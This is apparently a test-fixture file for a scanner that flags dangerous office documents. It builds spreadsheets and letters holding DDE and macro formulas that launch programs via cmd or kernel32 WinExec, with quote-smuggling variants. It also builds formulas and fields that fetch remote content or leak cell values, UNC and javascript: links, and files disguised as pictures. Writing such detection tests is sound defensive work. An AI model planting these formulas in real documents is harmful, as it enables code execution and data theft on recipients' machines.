import { makeDoc, makeXls } from '../../../testing/files/compound-file.ts'
import { field, makeDocx, makeXlsx, relation } from '../../../testing/files/office.ts'
import type { ZipPart } from '../../../testing/files/zip.ts'
import { type BadSample, type FlaggedSample, unsafe } from './sample.ts'

const spelled = (text: string) => text.replaceAll('&', '&amp;').replaceAll('"', '&quot;').replaceAll('<', '&lt;')

/** The places of a workbook where a formula may be. */
const places: Record<string, (formula: string) => ZipPart> = {
  'a cell': (formula) => ({
    name: 'xl/worksheets/sheet2.xml',
    data: `<worksheet><c><f>${formula}</f></c></worksheet>`,
  }),
  'a name': (formula) => ({
    name: 'xl/names.xml',
    data: `<workbook><definedNames><definedName name="a">${formula}</definedName></definedNames></workbook>`,
  }),
  'a conditional format': (formula) => ({
    name: 'xl/worksheets/sheet2.xml',
    data: `<worksheet><conditionalFormatting><cfRule><formula>${formula}</formula></cfRule></conditionalFormatting></worksheet>`,
  }),
  'a conditional format of an extension': (formula) => ({
    name: 'xl/worksheets/sheet2.xml',
    data: `<worksheet xmlns:xm="m"><extLst><ext><xm:f>${formula}</xm:f></ext></extLst></worksheet>`,
  }),
  'a validation': (formula) => ({
    name: 'xl/worksheets/sheet2.xml',
    data: `<worksheet><dataValidation><formula1>1</formula1><formula2>${formula}</formula2></dataValidation></worksheet>`,
  }),
  'a column of a table': (formula) => ({
    name: 'xl/tables/table1.xml',
    data: `<table><tableColumn><calculatedColumnFormula>${formula}</calculatedColumnFormula></tableColumn></table>`,
  }),
}
const inEveryPlace = <T>(formula: string, make: (place: string, bytes: () => Buffer) => T): T[] =>
  Object.entries(places).map(([place, part]) => make(place, () => makeXlsx({ parts: [part(spelled(formula))] })))

const programs = [
  'CALL("kernel32","WinExec","JCJ","calc",0)',
  'REGISTER.ID("kernel32","WinExec")',
  '1+register ("kernel32","WinExec")',
  'EXEC("calc")',
  'RTD("evil.prog",,"x")',
  "cmd|'/c calc'!A0",
  "'cmd'|'/c calc'!A0",
  'MSEXCEL|Sheet!R1C1',
  'SUM(1,cmd|_xlbgnm.A1!A0)',
  `'a"b'!A1+cmd|'/c calc'!A0+'c"d'!A1`,
  `'a"b'!A1+CALL("kernel32","WinExec","JCJ","calc",0)+'c"d'!A1`,
  `T[a"b]+cmd|'/c calc'!A0+T[c"d]`,
  `T['["]+EXEC("calc")+T['["]`,
  `"'"&EXEC("calc")&"'"`,
  `"a"&'EXEC("calc")`,
  'LET(x,CALL,x("kernel32","WinExec"))',
]
const fetches = [
  '_xlfn.WEBSERVICE("https://example.com")',
  '_xlfn.IMAGE("https://example.com/a.png")',
  'IF(A1="",image ( "https://example.com/"&A1),"")',
  '_xlfn.STOCKHISTORY("MSFT",1)',
  'CUBEVALUE("connection","[a]")',
  '_xlfn._xlws.PY(0,0)',
  '_xlfn.TRANSLATE(A1,"en","fr")',
  `'a"b'!A1&_xlfn.WEBSERVICE("https://example.com/?"&A1)&'c"d'!A1`,
  '_xlfn.LET(_xlpm.x,_xlfn.WEBSERVICE,_xlpm.x("https://example.com"))',
  '_xlfn.MAP(A1:A3,_xlfn.WEBSERVICE)',
  '_xlfn.IMPORTCSV("https://example.com/a")',
  '_xlfn.IMPORTTEXT("https://example.com/a")',
  'SQL.REQUEST("DSN=x")',
  "'\\\\host\\share\\[a.xlsx]S'!A1",
]
const elsewhere = [
  'HYPERLINK("\\\\host\\share\\a.exe","Open")',
  'HYPERLINK("\\\\"&"host\\share","Open")',
  'HYPERLINK("file:///C:/a.exe")',
  'HYPERLINK("javascript:alert(1)")',
  'HYPERLINK(CHAR(92)&CHAR(92)&"host\\share","Open")',
  'HYPERLINK("https://example.com"&A2,"Open")',
  'HYPERLINK(A2)',
  'HYPERLINK("https://example.com")+HYPERLINK(A2)',
  'MAP(A1:A3,HYPERLINK)',
  `'a"b'!A1&HYPERLINK("\\\\host\\share","Open")`,
]
/** Formulas of an ordinary budget that resemble those above. */
const harmless = [
  'SUM(A1:A3)*0.5',
  'IF(A1="a|b!c","CALL(","RTD(1)")',
  'HYPERLINK("https://example.com/rates","Rates")',
  'HYPERLINK("mailto:rates@example.com")',
  'HYPERLINK("#Sheet2!A1","Totals")',
  `'a"b'!A1&"|"&'c"d'!A1`,
  `'It''s "CALL(1)"|'!A1+Call!A1+Image!B2`,
  'SUM(Table1[[#All],[Image]:[Call]])+Table1[EXEC|]+PY*2',
  'Recall(A1)+RTDS(2)',
  'MIRRORIMAGE(A1)',
]

const part = (about: string, name: string, data: Buffer | string) =>
  unsafe('a.docx', `a letter with ${about}`, () => makeDocx({ parts: [{ name, data }] }))
const shortcut = Buffer.from('4c0000000114020000000000c000000000000046', 'hex')

export const activeFormulas: readonly BadSample[] = [
  ...programs.flatMap((formula) =>
    inEveryPlace(formula, (place, bytes) => unsafe('a.xlsx', `a sheet with ${formula} in ${place}`, bytes)),
  ),
  unsafe('a.xlsx', 'a sheet with a formula that is too long to read', () =>
    makeXlsx({ body: `<c r="B1"><f>${'['.repeat(70_000)}</f></c>` }),
  ),
  part('a shortcut', 'word/a.lnk', 'x'),
  part('a shortcut that is named a picture', 'word/media/a.png', shortcut),
  part('a shortcut to an address', 'word/media/b.png', '[InternetShortcut]\r\nURL=file://host/a'),
  part('a rich text', 'word/a.rtf', 'x'),
  part('a rich text that is named a picture', 'word/media/a.png', '{\\rtf1{\\object}}'),
  part('a page', 'word/a.html', 'x'),
  part('a page that is named a picture', 'word/media/a.png', '<html><body/></html>'),
  part('a page behind a word', 'word/media/a.png', 'x <script>alert(1)</script>'),
  part('a mailed page', 'word/media/a.png', 'MIME-Version: 1.0\r\n'),
  part('a help file', 'word/media/a.png', Buffer.from('4954534603000000', 'hex')),
  part('a place where a page is put', 'word/footer1.xml', '<w:ftr xmlns:w="w"><w:altChunk/></w:ftr>'),
  unsafe('a.docx', 'a letter with a document with macros under another name', () =>
    makeDocx({
      parts: [
        {
          name: 'word/embeddings/a.bin',
          data: makeXlsx({ mainType: 'application/vnd.ms-excel.sheet.macroEnabled.main+xml' }),
          method: 0,
        },
      ],
    }),
  ),
  unsafe('a.xlsx', 'a sheet with a control under another name', () =>
    makeXlsx({ relations: relation('control', 'parts/a.bin') }),
  ),
  unsafe('a.docx', 'a letter with a field that brings in an object', () =>
    makeDocx({ body: field('LINK htmlfile "https://example.com/a.html"') }),
  ),
  unsafe('a.docx', 'a letter with a field that fetches from a file server', () =>
    makeDocx({ body: field('INCLUDEPICTURE "\\\\\\\\192.0.2.1\\\\a.png"') }),
  ),
  unsafe('a.doc', 'an old letter with a field that brings in an object', () =>
    makeDoc({ text: '\u0013 LINK htmlfile "https://example.com"\u0015' }),
  ),
]

const flagged = (
  kind: FlaggedSample['kind'],
  about: string,
  flags: FlaggedSample['flags'],
  make: FlaggedSample['make'],
): FlaggedSample => ({ kind, fileName: `a.${kind}`, about, flags, make })
const query = '<DataMashup xmlns="http://schemas.microsoft.com/DataMashup">AAAA</DataMashup>'

export const flaggedFormulas: readonly FlaggedSample[] = [
  ...fetches.flatMap((formula) =>
    inEveryPlace(formula, (place, bytes) =>
      flagged('xlsx', `a sheet with ${formula} in ${place}`, ['FetchesElsewhere'], bytes),
    ),
  ),
  ...elsewhere.flatMap((formula) =>
    inEveryPlace(formula, (place, bytes) =>
      flagged('xlsx', `a sheet with ${formula} in ${place}`, ['OpensElsewhere'], bytes),
    ),
  ),
  ...harmless.flatMap((formula) =>
    inEveryPlace(formula, (place, bytes) => flagged('xlsx', `a sheet with ${formula} in ${place}`, [], bytes)),
  ),
  flagged('xlsx', 'a sheet with a query', ['FetchesElsewhere'], () =>
    makeXlsx({ parts: [{ name: 'customXml/item1.xml', data: query }] }),
  ),
  flagged('xlsx', 'a sheet with a query of two bytes a letter', ['FetchesElsewhere'], () =>
    makeXlsx({ parts: [{ name: 'customXml/item1.xml', data: Buffer.from(`\ufeff${query}`, 'utf16le') }] }),
  ),
  flagged('xlsx', 'a sheet with the result of a query', ['FetchesElsewhere'], () =>
    makeXlsx({ parts: [{ name: 'xl/queryTables/queryTable1.xml', data: '<queryTable connectionId="1"/>' }] }),
  ),
  ...['customData', 'powerPivotData', 'connections'].map((type) =>
    flagged('xlsx', `a sheet with a part of ${type}`, ['FetchesElsewhere'], () =>
      makeXlsx({ relations: relation(type, 'model/item.data') }),
    ),
  ),
  flagged('docx', 'a letter with an add-in', ['FetchesElsewhere'], () =>
    makeDocx({ parts: [{ name: 'word/webextensions/a.xml', data: '<we:webextension xmlns:we="w"/>' }] }),
  ),
  flagged('docx', 'a letter with a film from a page', ['FetchesElsewhere'], () =>
    makeDocx({ body: '<x:webVideoPr xmlns:x="x" embeddedHtml="&lt;iframe>"/>' }),
  ),
  flagged('docx', 'a letter with a field that leads to a file server', ['OpensElsewhere'], () =>
    makeDocx({ body: field('HYPERLINK "\\\\\\\\host\\\\share\\\\a.exe"') }),
  ),
  flagged('docx', 'a letter with a field that leads to a page', [], () =>
    makeDocx({ body: field('HYPERLINK "https://example.com" \\l "here"') }),
  ),
  flagged('docx', 'a letter with a sheet under another name', [], () =>
    makeDocx({ parts: [{ name: 'word/embeddings/a.bin', data: makeXlsx(), method: 0 }] }),
  ),
  flagged('doc', 'an old letter with a field that fetches a picture', ['NotFullyChecked', 'FetchesElsewhere'], () =>
    makeDoc({ text: '\u0013 INCLUDEPICTURE "https://example.com/a.png"\u0015' }),
  ),
  flagged('xls', 'an old sheet with a query', ['NotFullyChecked', 'FetchesElsewhere'], () =>
    makeXls({ records: [[0x876, Buffer.alloc(40)]] }),
  ),
  flagged('xls', 'an old sheet that calls a function by its name', ['NotFullyChecked', 'FetchesElsewhere'], () =>
    makeXls({ records: [[0x18, Buffer.from('\0\0\0_\0x\0l\0f\0n\0.\0W\0E\0B\0S\0E\0R\0V\0I\0C\0E\0')]] }),
  ),
]
